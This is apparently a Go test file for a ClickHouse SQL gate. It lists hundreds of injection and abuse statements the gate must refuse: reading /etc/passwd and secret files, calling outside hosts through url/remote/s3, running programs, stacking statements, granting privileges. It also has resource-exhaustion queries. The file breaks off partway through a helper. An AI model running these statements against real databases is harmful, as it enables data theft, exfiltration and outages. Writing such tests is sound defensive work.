package clickhouse_test

import (
	"errors"
	"net"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"service/store/warehouse"
	"service/store/warehouse/clickhouse"
	"service/store/warehouse/warehousetest"
)

// attacks are statements that must have no effect, even as a user with all privileges. address is the address of a listener that must get
// no connection, and out a file that must not be written.
func attacks(address, out string) []warehousetest.Attack {
	host, port, _ := net.SplitHostPort(address)
	fill := strings.NewReplacer("HOST", host, "PORT", port, "ADDRESS", address, "OUTPUT", out)
	table := []warehousetest.Attack{
		{Name: "writes", SQL: []string{
			"INSERT INTO orders VALUES (0, '2026-01-01', 0, '')", "INSERT INTO orders SELECT * FROM orders",
			"INSERT INTO TABLE FUNCTION file('OUTPUT', CSV, 'a Int8') VALUES (1)",
			"INSERT INTO FUNCTION remote('ADDRESS', conformance.orders) SELECT * FROM orders",
			"INSERT INTO orders FORMAT Values (0, '2026-01-01', 0, '')", "INSERT INTO orders FROM INFILE '/etc/passwd' FORMAT CSV",
			"insert into orders select 0, today(), 0, ''", "INSERT INTO orders SETTINGS async_insert = 1 VALUES (0, '2026-01-01', 0, '')",
			"DELETE FROM orders WHERE 1", "UPDATE orders SET note = '' WHERE 1", "ALTER TABLE orders DELETE WHERE 1",
			"ALTER TABLE orders UPDATE note = '' WHERE 1", "TRUNCATE TABLE orders", "TRUNCATE DATABASE conformance2",
			"TRUNCATE ALL TABLES FROM conformance",
			"REPLACE TABLE orders (a Int8) ENGINE = Memory", "(INSERT INTO orders VALUES (0, '2026-01-01', 0, ''))",
		}},
		{Name: "writes behind WITH", SQL: []string{
			"WITH x AS (SELECT * FROM orders) INSERT INTO orders SELECT * FROM x", "WITH 1 AS a INSERT INTO orders SELECT a, today(), 0, ''",
			"WITH x AS (INSERT INTO orders VALUES (0, '2026-01-01', 0, '')) SELECT 1", "WITH x AS (SELECT 1) DELETE FROM orders WHERE 1",
			"SELECT 1 PARALLEL WITH DROP TABLE orders", "WITH 1 AS a SELECT a PARALLEL WITH SELECT 2",
		}},
		{Name: "several statements", SQL: []string{
			"SELECT 1; DROP TABLE orders", "SELECT 1;;DROP TABLE orders", "; DROP TABLE orders", "SELECT 1 /* ; */ ; /* */ DROP TABLE orders",
			"SELECT 1 -- \n; DROP TABLE orders", "SELECT 1 # x\n; DROP TABLE orders", "SELECT 1 // x\n; DROP TABLE orders",
			"SELECT ';'; DROP TABLE orders", "SELECT 'a\\'; DROP TABLE orders; --'; DROP TABLE orders", "SELECT `a`; DROP TABLE orders",
			"SELECT \"a\"; DROP TABLE orders", "SELECT 1\n;\nSELECT 2", "SELECT 1; SET readonly = 0; DROP TABLE orders",
			"SELECT 1 \\G DROP TABLE orders", "SELECT 1；DROP TABLE orders",
		}},
		{Name: "leaving the description", SQL: []string{
			"SELECT 1) ; DROP TABLE orders; SELECT (1", "SELECT 1), (SELECT 2", "SELECT 1) AS a, (SELECT 2", "SELECT 1\n)\nFORMAT Null",
			"SELECT 1) SETTINGS readonly = 0 --", "(SELECT 1", "SELECT 1)", "SELECT (1",
		}},
		{Name: "settings", SQL: []string{
			"SET readonly = 0", "SET max_execution_time = 0", "SET SESSION readonly = 0", "SET ROLE ALL", "SET DEFAULT ROLE ALL TO poor",
			"SELECT 1 SETTINGS readonly = 0", "SELECT 1 settings max_execution_time = 0",
			"SELECT 1 SETTINGS max_result_rows = 0, result_overflow_mode = 'throw'",
			"SELECT * FROM (SELECT 1 SETTINGS readonly = 0)", "WITH x AS (SELECT 1 SETTINGS max_memory_usage = 0) SELECT * FROM x",
			"SELECT 1 UNION ALL SELECT 2 SETTINGS readonly = 0", "SELECT 1. SETTINGS max_execution_time = 0",
			"SELECT 1.\tSETTINGS max_execution_time = 0",
			"SELECT 1 + 1. /* x */ SETTINGS max_execution_time = 0", "SELECT 1/* x */SETTINGS/* y */readonly = 0",
			"SELECT 1\nSETTINGS\nreadonly\n=\n0", "SELECT 1 LIMIT 1 SETTINGS allow_ddl = 1",
			"SELECT 1 SETTINGS additional_table_filters = {'orders': '1'}", "SELECT 1 SETTINGS profile = 'default'",
			"SELECT 1 SETTINGS log_comment = 'x'", "SELECT 1 SETTINGS s3_truncate_on_insert = 1",
			"SELECT 1 // ' \n SETTINGS max_execution_time = 0 // '",
		}},
		{Name: "files written", SQL: []string{
			"SELECT 1 INTO OUTFILE 'OUTPUT'", "SELECT 1 INTO OUTFILE 'OUTPUT' FORMAT CSV", "SELECT 1 INTO OUTFILE 'OUTPUT' TRUNCATE",
			"SELECT 1 INTO OUTFILE 'OUTPUT' APPEND AND STDOUT", "(SELECT 1) INTO OUTFILE 'OUTPUT'",
			"SELECT 1 UNION ALL SELECT 2 INTO OUTFILE 'OUTPUT'",
			"SELECT * FROM (SELECT 1 INTO OUTFILE 'OUTPUT')", "WITH x AS (SELECT 1) SELECT * FROM x INTO OUTFILE 'OUTPUT'",
			"SELECT 1 into/**/outfile 'OUTPUT'", "SELECT 1. INTO OUTFILE 'OUTPUT'", "SELECT 1.INTO OUTFILE 'OUTPUT'",
			"SELECT 1e5INTO OUTFILE 'OUTPUT'", "SELECT 'a'INTO OUTFILE 'OUTPUT'",
			"FROM orders SELECT 1 INTO OUTFILE 'OUTPUT'", "BACKUP TABLE orders TO File('OUTPUT')",
			"BACKUP DATABASE conformance TO Disk('default', 'OUTPUT')", "RESTORE TABLE orders FROM File('OUTPUT')",
		}},
		{Name: "formats", SQL: []string{
			"SELECT 1 FORMAT JSON", "SELECT 1 FORMAT Null", "SELECT 1 FORMAT `Null`", "SELECT 1 AS a FORMAT \"JSON\"", "SELECT 1 format RowBinary",
			"SELECT 1 FORMAT/**/Native", "SELECT 1 FORMAT Template SETTINGS format_template_row = '/etc/passwd'", "SELECT 1. FORMAT JSON",
			"(SELECT 1) FORMAT JSON",
		}},
		{Name: "files read", SQL: []string{
			"SELECT * FROM file('secret.csv')", "SELECT * FROM file('/etc/passwd', LineAsString)", "SELECT file('secret.csv')",
			"SELECT * FROM FILE('secret.csv')", "SELECT (SELECT * FROM file('secret.csv'))", "SELECT 1 WHERE file('secret.csv') != ''",
			"SELECT id FROM orders ORDER BY file('secret.csv')",
			"SELECT * FROM fileCluster('twice', 'secret.csv')", "SELECT * FROM filesystem('/etc')", "SELECT * FROM sqlite('/etc/passwd', 't')",
			"SELECT * FROM icebergLocal('/etc')", "SELECT * FROM deltaLakeLocal('/etc')", "SELECT * FROM paimonLocal('/etc')",
			"SELECT hex(file('secret.csv'))",
			"SELECT catboostEvaluate('/etc/passwd', 1)",
		}},
		{Name: "functions by their name alone", SQL: []string{
			"SELECT * APPLY(file) FROM (SELECT 'secret.csv')", "SELECT * APPLY file FROM (SELECT 'secret.csv')",
			"SELECT * APPLY(`file`) FROM (SELECT 'secret.csv')", "SELECT * APPLY(\"fil\\x65\") FROM (SELECT 'secret.csv')",
			"SELECT COLUMNS('.*') APPLY(file) FROM (SELECT 'secret.csv')",
			"SELECT * APPLY(x -> file(x)) FROM (SELECT 'secret.csv')", "SELECT * APPLY(toString) APPLY(file) FROM (SELECT 'secret.csv')",
			"SELECT arrayMap(file, ['secret.csv'])", "SELECT arrayMap((file), ['secret.csv'])", "SELECT arrayMap(file AS f, ['secret.csv'])",
			"SELECT arrayMap(`file`, ['secret.csv'])",
			"SELECT arrayMap(\"fil\\x65\", ['secret.csv'])", "SELECT arrayMap(x -> file(x), ['secret.csv'])",
			"SELECT arrayMap(/* */file/* */, ['secret.csv'])", "SELECT arrayMap(((file)), ['secret.csv'])", "SELECT arraySort(file, ['secret.csv'])",
			"SELECT mapApply(file, map(1, 1))", "SELECT arrayMap(sleep, [3])",
			"SELECT arrayMap(sleepEachRow, [3])", "WITH (x -> file(x)) AS f SELECT f('secret.csv')",
			"SELECT arrayMap(lambda(tuple(x), file(x)), ['secret.csv'])", "SELECT arrayMap(hasColumnInTable, ['ADDRESS'])",
			"SELECT arrayMap(aiGenerate, ['x'])", "SELECT arrayMap(logTrace, ['x'])", "SELECT arrayMap(generateSerialID, ['x'])",
		}},
		{Name: "other hosts", SQL: []string{
			"SELECT * FROM url('http://ADDRESS/', CSV, 'a String')", "SELECT * FROM URL('http://ADDRESS/', CSV, 'a String')",
			"SELECT * FROM urlCluster('twice', 'http://ADDRESS/', CSV, 'a String')", "SELECT * FROM remote('ADDRESS', system.one)",
			"SELECT * FROM remoteSecure('ADDRESS', system.one)",
			"SELECT * FROM remote('ADDRESS', 'conformance', 'orders', 'default', '')", "SELECT * FROM cluster('twice', conformance.orders)",
			"SELECT * FROM clusterAllReplicas('twice', system.one)", "SELECT * FROM s3('http://ADDRESS/a.csv', CSV, 'a String')",
			"SELECT * FROM s3Cluster('twice', 'http://ADDRESS/a.csv')",
			"SELECT * FROM gcs('http://ADDRESS/a.csv')", "SELECT * FROM gcsCluster('twice', 'http://ADDRESS/a.csv')",
			"SELECT * FROM ossCluster('twice', 'http://ADDRESS/a.csv')", "SELECT * FROM cosnCluster('twice', 'http://ADDRESS/a.csv')",
			"SELECT * FROM icebergCluster('twice', 'http://ADDRESS/')", "SELECT * FROM `icebergCluster`('twice', 'http://ADDRESS/')",
			"SELECT * FROM icebergREST('http://ADDRESS/')",
			"SELECT * FROM ytsaurusCluster('http://ADDRESS/')", "SELECT * FROM mongodbCluster('ADDRESS')",
			"SELECT * FROM oss('http://ADDRESS/a.csv')", "SELECT * FROM cosn('http://ADDRESS/a.csv')",
			"SELECT * FROM hdfs('hdfs://ADDRESS/a', CSV, 'a String')", "SELECT * FROM hdfsCluster('twice', 'hdfs://ADDRESS/a')",
			"SELECT * FROM azureBlobStorage('http://ADDRESS/', 'c', 'a')",
			"SELECT * FROM azureBlobStorageCluster('twice', 'http://ADDRESS/', 'c', 'a')", "SELECT * FROM mysql('ADDRESS', 'd', 't', 'u', 'p')",
			"SELECT * FROM postgresql('ADDRESS', 'd', 't', 'u', 'p')", "SELECT * FROM mongodb('ADDRESS', 'd', 't', 'u', 'p', 'a String')",
			"SELECT * FROM redis('ADDRESS', 'k', 'k String')",
			"SELECT * FROM jdbc('http://ADDRESS', 't')", "SELECT * FROM odbc('DSN=x;Server=HOST', 't')", "SELECT * FROM iceberg('http://ADDRESS/')",
			"SELECT * FROM icebergS3('http://ADDRESS/')", "SELECT * FROM icebergAzure('http://ADDRESS/')",
			"SELECT * FROM deltaLake('http://ADDRESS/')", "SELECT * FROM hudi('http://ADDRESS/')",
			"SELECT * FROM paimonS3('http://ADDRESS/')", "SELECT * FROM ytsaurus('http://ADDRESS/', '//t', 'x', 'a String')",
			"SELECT * FROM arrowFlight('ADDRESS', 'x')", "SELECT hasColumnInTable('ADDRESS', 'd', 't', 'c')",
			"SELECT hasColumnInTable('ADDRESS', 'default', '', 'd', 't', 'c')", "SELECT reverseDNSQuery('HOST')", "SELECT aiGenerate('c', 'x')",
			"SELECT aiGenerateContent('c', 'x')",
		}},
		{Name: "programs", SQL: []string{
			"SELECT * FROM executable('x', TSV, 'a String')", "SELECT * FROM executable('touch OUTPUT', TSV, 'a String', (SELECT 1))",
			"CREATE FUNCTION f AS (x) -> file(x)", "SELECT generateSerialID('x')", "SELECT logTrace('x')",
		}},
		{Name: "where table functions hide", SQL: []string{
			"SELECT * FROM `url`('http://ADDRESS/', CSV, 'a String')", "SELECT * FROM \"url\"('http://ADDRESS/', CSV, 'a String')",
			"SELECT * FROM /* x */ url/* y */('http://ADDRESS/', CSV, 'a String')", "SELECT * FROM url\n('http://ADDRESS/', CSV, 'a String')",
			"SELECT * FROM numbers(1), url('http://ADDRESS/')",
			"SELECT * FROM orders JOIN url('http://ADDRESS/') AS u ON 1",
			"SELECT * FROM conformance.url('ADDRESS')",
			"SELECT * FROM view(SELECT * FROM url('http://ADDRESS/', CSV, 'a String'))",
			"SELECT * FROM (SELECT * FROM (SELECT * FROM url('http://ADDRESS/', CSV, 'a String')))",
			"SELECT EXISTS (SELECT 1 FROM url('http://ADDRESS/', CSV, 'a String'))", "SELECT 1 IN url('http://ADDRESS/', CSV, 'a UInt8')",
			"SELECT 1 IN hive('thrift://ADDRESS', 'd', 't', 'a String', 'a')", "SELECT 1 IN (hive('thrift://ADDRESS', 'd', 't', 'a String', 'a'))",
			"SELECT 1 GLOBAL IN meilisearch('http://ADDRESS/', 't', '')",
			"SELECT 1 FROM orders ARRAY JOIN hive('thrift://ADDRESS', 'd', 't', 'a String', 'a') AS a",
			"SELECT in(1, hive('thrift://ADDRESS', 'd', 't', 'a String', 'a'))",
			"SELECT * FROM viewIfPermitted(SELECT 1 ELSE url('http://ADDRESS/'))",
			"SELECT * FROM (EXPLAIN TABLE OVERRIDE mysql('ADDRESS', 'd', 't', 'u', 'p') PARTITION BY a)", "DESCRIBE url('http://ADDRESS/')",
			"EXISTS (SELECT * FROM url('http://ADDRESS/'))",
		}},
		{Name: "where the readers may differ", SQL: []string{
			"SELECT * FROM // ' \n url('http://ADDRESS/', 'CSV', 'a String') // '", "SELECT 1 // ' \n , file('secret.csv') // '",
			"SELECT 1 // \" \n , file('secret.csv') // \"", "SELECT 1 // ` \n , sleep(3) // `", "SELECT 1//'\n,sleep(3)//'",
			"SELECT 1 /* */ // ' \n , sleep(3) // '", "SELECT $$ ' $$, sleep(3), $$ ' $$",
			"SELECT $a$ ' $a$, sleep(3), $a$ ' $a$", "SELECT ‘a’", "SELECT “a”", "SELECT '\\'", "SELECT /* /* */ sleep(3) */ 1",
			"SELECT 1 /*", "SELECT 1\x00; DROP TABLE orders", "SELECT '\x00'", "SELECT 1 -- \r, sleep(3)", "SELECT 1 --\x01\n, sleep(3)",
			"SELECT 1\u00a0, sleep(3)", "SELECT 1\u2028, sleep(3)",
			"SELECT \u2212 1", "SELECT ſleep(3)", "SELECT 'a''', sleep(3), '''", "SELECT '\\\\', sleep(3), '\\\\'", "SELECT \xff\xfe",
			"\uff33ELECT 1", "SELECT '", "SELECT `", "SELECT \"", "SELECT 1 /*! , sleep(3) */", "SELECT 1\\", "SELECT \\N",
		}},
		{Name: "parameters", SQL: []string{
			"SELECT {x:String}", "SELECT {p1:String}", "SELECT {p2:String}", "SELECT {p1:UInt8}", "SELECT * FROM {p1:Identifier}",
			"SELECT {p1:Identifier}('http://ADDRESS/')", "SELECT {p1 : String}", "SELECT {`p1`:String}", "SELECT {p1:String", "SELECT {p1}",
			"SELECT {p0:String}", "SELECT {p-1:String}",
			"SELECT {p99999999999999999999:String}", "SELECT {'a': 1}", "SELECT {p1:Array(String)}",
			"SELECT * FROM {CLICKHOUSE_DATABASE:Identifier}.orders",
		}},
		{Name: "waiting", SQL: []string{
			"SELECT sleep(3)", "SELECT SLEEP(3)", "SELECT sleepEachRow(1) FROM numbers(100)",
			"SELECT * FROM loop(numbers(1))", "SELECT * FROM loop(conformance, orders)", "SELECT count() FROM orders WHERE NOT ignore(sleep(1))",
			"SELECT `sleep`(3)",
		}},
		{Name: "definitions", SQL: []string{
			"CREATE TABLE t (a Int8) ENGINE = Memory", "CREATE TABLE t ENGINE = Memory AS SELECT 1", "CREATE TEMPORARY TABLE t (a Int8)",
			"CREATE OR REPLACE TABLE orders (a Int8) ENGINE = Memory", "CREATE TABLE t (a String) ENGINE = URL('http://ADDRESS/', CSV)",
			"CREATE TABLE t (a String) ENGINE = File(CSV)", "CREATE VIEW v AS SELECT 1",
			"CREATE MATERIALIZED VIEW v ENGINE = Memory AS SELECT 1",
			"CREATE DICTIONARY d (a UInt64) PRIMARY KEY a SOURCE(HTTP(url 'http://ADDRESS/' format 'CSV')) LAYOUT(FLAT()) LIFETIME(0)",
			"CREATE DATABASE d", "CREATE DATABASE d ENGINE = MySQL('ADDRESS', 'd', 'u', 'p')", "CREATE NAMED COLLECTION c AS a = 1",
			"CREATE INDEX i ON orders (id)",
			"CREATE WORKLOAD w", "CREATE RESOURCE r (READ DISK d)", "DROP TABLE orders", "DROP TABLE IF EXISTS orders SYNC",
			"DROP DATABASE conformance2", "DROP VIEW early", "DROP DICTIONARY names", "DROP FUNCTION f", "DROP NAMED COLLECTION c",
			"UNDROP TABLE orders",
		}},
		{Name: "alterations", SQL: []string{
			"ALTER TABLE orders ADD COLUMN x Int8", "ALTER TABLE orders DROP COLUMN note", "ALTER TABLE orders DROP PARTITION tuple()",
			"ALTER TABLE orders DETACH PART 'all_1_1_0'", "ALTER TABLE orders FREEZE", "ALTER TABLE orders MODIFY TTL day + INTERVAL 1 SECOND",
			"ALTER TABLE orders MODIFY SETTING max_part_loading_threads = 1",
			"ALTER TABLE orders MODIFY COMMENT 'x'", "ALTER DATABASE conformance MODIFY COMMENT 'x'", "ALTER USER conformance IDENTIFIED BY ''",
			"ALTER NAMED COLLECTION c SET a = 2", "RENAME TABLE orders TO o", "RENAME DATABASE conformance2 TO d", "RENAME DICTIONARY names TO n",
			"EXCHANGE TABLES orders AND early", "EXCHANGE DICTIONARIES names AND names",
			"ATTACH TABLE orders", "ATTACH TABLE t FROM '/etc' (a Int8) ENGINE = MergeTree ORDER BY a", "ATTACH DATABASE d", "DETACH TABLE orders",
			"DETACH TABLE orders PERMANENTLY", "DETACH DATABASE conformance2", "DETACH VIEW early", "OPTIMIZE TABLE orders FINAL",
			"OPTIMIZE TABLE orders DEDUPLICATE", "MOVE USER poor TO memory",
		}},
		{Name: "accounts", SQL: []string{
			"CREATE USER eve", "CREATE ROLE r", "CREATE ROW POLICY p ON conformance.orders USING 0 TO poor", "CREATE QUOTA q TO poor",
			"CREATE SETTINGS PROFILE s SETTINGS readonly = 0 TO poor", "DROP USER poor", "DROP ROLE r", "DROP QUOTA q", "GRANT ALL ON *.* TO poor",
			"GRANT r TO poor", "GRANT CURRENT GRANTS ON *.* TO poor", "REVOKE ALL ON *.* FROM poor",
			"REVOKE SELECT ON conformance.orders FROM poor", "CHECK GRANT SELECT ON conformance.orders", "EXECUTE AS poor SELECT 1",
			"EXECUTE AS poor", "SHOW CREATE USER conformance", "SHOW GRANTS", "SHOW ACCESS",
		}},
		{Name: "administration", SQL: []string{
			"SYSTEM SHUTDOWN", "SYSTEM KILL", "SYSTEM RELOAD CONFIG", "SYSTEM RELOAD DICTIONARIES", "SYSTEM DROP MARK CACHE",
			"SYSTEM DROP DNS CACHE", "SYSTEM FLUSH LOGS", "SYSTEM STOP MERGES", "SYSTEM STOP LISTEN TCP", "SYSTEM START LISTEN TCP",
			"SYSTEM SYNC REPLICA orders", "SYSTEM ENABLE FAILPOINT x", "SYSTEM UNFREEZE WITH NAME 'x'",
			"KILL QUERY WHERE 1", "KILL QUERY WHERE user != '' SYNC", "KILL MUTATION WHERE 1", "KILL PART_MOVE_TO_SHARD WHERE 1",
		}},
		{Name: "other statements", SQL: []string{
			"EXPLAIN SELECT 1", "EXPLAIN PIPELINE SELECT 1", "EXPLAIN AST DROP TABLE orders", "DESCRIBE TABLE orders", "DESC orders", "SHOW TABLES",
			"SHOW PROCESSLIST", "SHOW CREATE TABLE orders", "USE system", "EXISTS TABLE orders", "CHECK TABLE orders", "CHECK ALL TABLES", "WATCH v",
			"BEGIN TRANSACTION", "COMMIT", "ROLLBACK", "SET TRANSACTION SNAPSHOT 1",
			"COPY orders TO 'OUTPUT'", "PREPARE s AS SELECT 1", "EXECUTE s", "VALUES (1)", "TABLE orders", "HELP", "quit", "", " ", "/* nothing */",
			";", "()",
		}},
	}
	for _, a := range table {
		for i, sql := range a.SQL {
			a.SQL[i] = fill.Replace(sql)
		}
	}
	return table
}

// unknown are statements that the gate lets through, and that the server refuses.
func unknown(address string) warehousetest.Attack {
	a := warehousetest.Attack{
		Name: "what the parser refuses",
		SQL: []string{
			"SELECT 1 */ 2", `SELECT x'\', sleep(3) -- '`, `SELECT b'\', sleep(3) -- '`, "SELECT `a``, sleep(3), ``b`", "SELECT", "WITH",
			"SELECT 1 FROM", "SELECT * FROM (SHOW TABLES)",
			"SELECT 1 #x", "SELECT 1 IN numbers(3)",
			"SELECT * FROM prometheusQuery('t', 'up')",
			"SELECT * FROM executablePool('x', TSV, 'a String')",
			"SELECT * FROM mergeTreeProjection(conformance, orders, p)",
			"SELECT * FROM timeSeriesData(t)",
			"SELECT * FROM somethingNew('http://ADDRESS/')",
			"SELECT * FROM eval('SELECT 1')",
			"SELECT * FROM orders LEFT JOIN somethingNew('ADDRESS') AS b ON 1",
			"SELECT * FROM orders ARRAY JOIN [1] AS a JOIN somethingNew('ADDRESS') AS b ON 1",
			"SELECT (SELECT * FROM somethingNew('ADDRESS'))",
			"WITH x AS (SELECT * FROM somethingNew('ADDRESS')) SELECT * FROM x",
			"SELECT 1 WHERE 1 IN (SELECT * FROM somethingNew('ADDRESS'))",
			"FROM somethingNew('ADDRESS') SELECT *",
			"SELECT 1 UNION ALL SELECT * FROM somethingNew('ADDRESS')",
			"SELECT 1 EXCEPT SELECT * FROM somethingNew('ADDRESS')",
			"SELECT * FROM (FROM somethingNew('ADDRESS') SELECT 1)",
		},
	}
	for i, sql := range a.SQL {
		a.SQL[i] = strings.ReplaceAll(sql, "ADDRESS", address)
	}
	return a
}

func TestGateRefusesAttacks(t *testing.T) {
	t.Parallel()
	for _, attack := range attacks("127.0.0.1:9", "out") {
		for _, sql := range attack.SQL {
			err := clickhouse.Gate(sql)
			if bad, ok := errors.AsType[*warehouse.Error](err); !ok || bad.Class != warehouse.Refused {
				t.Errorf("%s: %q: %v", attack.Name, sql, err)
			}
		}
	}
}

// trap is a listener that counts who connects.
func trap(t *testing.T) (address string, connections func() int64) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	var n atomic.Int64
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			n.Add(1)
			conn.Close()
		}
	}()
	return l.Addr().String(), n.Load
}

// A change on the server made while its state is known is part of the state, and so is undoing the change.
func TestStateOnceAsked(t *testing.T) {
	open(t)
	known := stateOnceAsked()
	before := known(t)
	if before != state(t) {
		t.Error("it is not the state")
	}
	for _, tc := range []struct {
		sql  string
		same bool
	}{
		{"CREATE TABLE " + database + ".passing (a Int8) ENGINE = Memory", false},
		{"INSERT INTO " + database + ".passing VALUES (1)", false},
		{"DROP TABLE " + database + ".passing", true},
	} {
		if err := far.admin.Exec(t.Context(), tc.sql); err != nil {
			t.Fatal(err)
		}
		for range 2 {
			if after := known(t); (after == before) != tc.same || after != state(t) {
				t.Errorf("%s\nwhat is known differs from before, %t, and from what is, %t", tc.sql, after != before, after != state(t))
			}
		}
	}
}

// TestServerRefusesWrites takes the gate away: statements that write are refused by the session's settings, too.
func TestServerRefusesWrites(t *testing.T) {
	c := open(t)
	address, _ := trap(t)
	before := state(t)
	for _, attack := range attacks(address, filepath.Join(t.TempDir(), "out")) {
		switch attack.Name {
		case "writes", "writes behind WITH", "definitions", "alterations", "accounts", "settings":
		default:
			continue
		}
		for _, sql := range attack.SQL {
			if strings.HasPrefix(sql, "SHOW") || strings.HasPrefix(sql, "CHECK GRANT") || strings.HasPrefix(sql, "INSERT") ||
				strings.HasPrefix(sql, "EXECUTE AS") {
				continue // read, or wait for the rows of a client
			}
			err := c.Ungated(t.Context(), sql, warehouse.Limits{Rows: 10, Bytes: 1 << 20, Time: 5 * time.Second})
			if after := state(t); after != before {
				t.Fatalf("%s\nit changed something", sql)
			}
			if err == nil && attack.Name != "settings" {
				t.Errorf("%s\nit ran", sql)
			}
			idle(t, sql)
		}
	}
}

// TestGateAlone: without the gate, these statements would work with any settings of the session.
func TestGateAlone(t *testing.T) {
	c := open(t)
	if far.server == nil {
		t.Skip("TEST_CLICKHOUSE_DSN leads to a server without our files")
	}
	address, connections := trap(t)
	for _, sql := range []string{
		"SELECT file('secret.csv')", "SELECT arrayMap(file, ['secret.csv'])", "SELECT arrayMap(\"fil\\x65\", ['secret.csv'])",
		"SELECT * APPLY(file) FROM (SELECT 'secret.csv')", "SELECT 1 // ' \n , file('secret.csv') // '",
		"SELECT * FROM cluster('twice', conformance.orders)", "SELECT sleep(0.1)",
		"SELECT logTrace('x')", "SELECT 1 FORMAT `Null`",
	} {
		if err := c.Ungated(t.Context(), sql, warehouse.Limits{Rows: 10, Bytes: 1 << 20, Time: 10 * time.Second}); err != nil {
			t.Errorf("%s\n%v", sql, err)
		}
		if clickhouse.Gate(sql) == nil {
			t.Errorf("%s\nit passes", sql)
		}
	}
	sql := "DESCRIBE url('http://" + address + "/')"
	if err := c.Ungated(t.Context(), sql, warehouse.Limits{Rows: 10, Bytes: 1 << 20, Time: time.Second}); err == nil || connections() == 0 ||
		clickhouse.Gate(sql) == nil {
		t.Errorf("%s: %d connections, %v", sql, connections(), err)
	}
	idle(t, sql)
}

// TestOnlyFromTakesTableFunctions: the gate accepts unknown functions in the place of values, since the server does not read them as tables
// there, not even after IN. Those of older servers that reach out are known by their names.
func TestOnlyFromTakesTableFunctions(t *testing.T) {
	c := open(t)
	for _, sql := range []string{
		"SELECT 1 IN numbers(3)", "SELECT 1 IN (numbers(3))", "SELECT 1 GLOBAL NOT IN numbers(3)",
		"SELECT in(1, numbers(3))", "SELECT id FROM orders ARRAY JOIN numbers(3) AS a", "SELECT numbers(3)",
	} {
		if err := clickhouse.Gate(sql); err != nil {
			t.Errorf("%s\n%v", sql, err)
		}
		err := c.Ungated(t.Context(), sql, warehouse.Limits{Rows: 10, Bytes: 1 << 20, Time: 10 * time.Second})
		if bad, ok := errors.AsType[*warehouse.Error](err); !ok || bad.Class != warehouse.Unknown {
			t.Errorf("%s\n%v", sql, err)
		}
	}
}

// TestBombs are queries that the gate lets through: the server has to be kept from
// giving more time and memory than one caller may have. The user has 2 GB of it.
func TestBombs(t *testing.T) {
	c := openAs(t, func(to *warehouse.Target) { to.User = "two" })
	before := state(t)
	for _, sql := range []string{
		"SELECT count() FROM numbers(100000000000000)", "SELECT sum(sipHash64(number)) FROM numbers_mt(100000000000000)",
		"SELECT groupArray(number) FROM numbers(100000000000)", "SELECT uniqExact(number) FROM numbers(100000000000)",
		"SELECT number, count() FROM numbers(100000000000) GROUP BY number",
		"SELECT * FROM numbers(100000000000) ORDER BY sipHash64(number) LIMIT 1000000000, 1", "SELECT length(repeat('x', 100000000000))",
		"SELECT length(arrayJoin(range(100000000)))", "SELECT sum(length(repeat(toString(number), 10000000))) FROM numbers(100000)",
		"SELECT length(range(1000000000000))",
		"SELECT count() FROM numbers(1000000) AS a, numbers(1000000) AS b, numbers(1000000) AS c",
		"SELECT count() FROM numbers(10000000) AS a CROSS JOIN numbers(10000000) AS b WHERE sipHash64(a.number) = b.number",
		"SELECT a.number FROM numbers(100000000) AS a JOIN numbers(100000000) AS b ON a.number % 10 = b.number % 10 ORDER BY 1",
		"WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT max(n) FROM r",
		"WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n FROM r, numbers(100)) SELECT count() FROM r",
		"SELECT replaceRegexpAll(repeat('a', 30000000), '(a*)*b', 'x')", "SELECT match(repeat('a', 100000000), '^(a+)+$b')",
		"SELECT arraySum(arrayMap(x -> arraySum(arrayMap(y -> x * y, range(1000000))), range(1000000)))",
		"SELECT arrayReduce('uniqExact', range(4000000000))",
		"SELECT windowFunnel(1000000000)(number, number % 2 = 0, number % 3 = 0) FROM numbers(100000000000)",
		"SELECT max(r) FROM (SELECT row_number() OVER (ORDER BY sipHash64(number)) AS r FROM numbers(1000000000))",
		"SELECT sum(number) OVER (ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS s FROM numbers(1000000000) ORDER BY s LIMIT 1",
		"SELECT DISTINCT sipHash128(number) AS h FROM numbers(10000000000) ORDER BY h LIMIT 1",
		"SELECT number FROM numbers(10000000000) WHERE number IN (SELECT sipHash64(number) FROM numbers(10000000000))",
		"SELECT format('{0}{0}{0}{0}', repeat('x', 300000000))", "SELECT length(base64Encode(randomString(4000000000)))",
		"SELECT toString(groupArray(randomString(100000))) FROM numbers(1000000)",
		"SELECT max(length(arrayStringConcat(arrayMap(x -> repeat('x', 1000), range(10000000)))))", "SELECT " + strings.Repeat("(",
			20_000) + "1" + strings.Repeat(")", 20_000),
		"SELECT " + strings.Repeat("1 + ", 10_000) + "1", "SELECT '" + strings.Repeat("x", 3<<20) + "'",
		"SELECT 1 " + strings.Repeat("UNION ALL SELECT 1 ", 20_000), "SELECT " + strings.Repeat("-", 1) + strings.Repeat(" -", 30_000) + "1",
	} {
		short := sql[:min(len(sql), 100)]
		var table warehousetest.Table
		start := time.Now()
		stats, err := c.Query(t.Context(), sql, nil, warehouse.Limits{Rows: 10, Bytes: 1 << 20, Time: time.Second}, &table)
		took := time.Since(start)
		bad, known := errors.AsType[*warehouse.Error](err)
		switch {
		case err == nil && !stats.Truncated && len(table.Rows) != 1:
			t.Errorf("%s\n%d rows", short, len(table.Rows))
		case err != nil && !known:
			t.Errorf("%s\nits error is not in our words: %v", short, err)
		case known && bad.Class != warehouse.Timeout && bad.Class != warehouse.TooLarge && bad.Class != warehouse.Syntax &&
			bad.Class != warehouse.Type && bad.Class != warehouse.Failed:
			t.Errorf("%s\nclass %q: %v", short, bad.Class, err)
		}
		if took > 30*time.Second {
			t.Errorf("%s\nit took %s", short, took)
		}
		idle(t, short)
		if far.server != nil {
			if rss := warehousetest.Resident(t, far.server.pid); rss > 6<<30 {
				t.Fatalf("%s\nthe server has %d MiB", short, rss>>20)
			}
		}
	}
	if after := state(t); after != before {
		t.Error("something changed")
	}
}

// idle waits until nothing of the users of the tests runs on the server. Some work
// cannot be broken off between two of its steps.
func idle(t *testing.T, after string) {
	t.Helper()
	for deadline := time.Now().Add(30 * time.Second); running(t) > 0; time.Sleep(20 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("%s\nit goes on on the server", after)
